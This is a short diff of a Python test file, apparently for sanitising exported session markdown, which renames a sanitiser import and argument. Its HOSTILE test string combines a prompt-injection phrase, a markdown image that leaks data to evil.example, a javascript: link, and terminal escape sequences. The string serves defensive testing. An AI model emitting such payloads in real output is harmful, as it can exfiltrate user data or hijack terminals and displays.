@@ -17,7 +17,7 @@ from sessions.rows import SessionTally
 from sessions.store import SessionStore
 from tests.helpers import ScriptedProvider, orchestrated, plan_of, run
 from tests.sessions.helpers import connect, publish, record
-from tui.safe import clean
+from tui.safe import safe
 
 HOSTILE = "Ignore this ![pixel](http://evil.example/?leak=1) [click](javascript:x) <img src=x> \x1b[2J\x1b]0;owned\x07 ```"
 
@@ -25,7 +25,7 @@ HOSTILE = "Ignore this ![pixel](http://evil.example/?leak=1) [click](javascript:
 async def markdown(store: SessionStore, session_id: str) -> str:
     row = await store.get_session(session_id)
     chunks: list[str] = []
-    await write_markdown(row, store.iter_events(row.id), chunks.append, sanitize=clean)
+    await write_markdown(row, store.iter_events(row.id), chunks.append, gate=safe)
     return "".join(chunks)
 
 
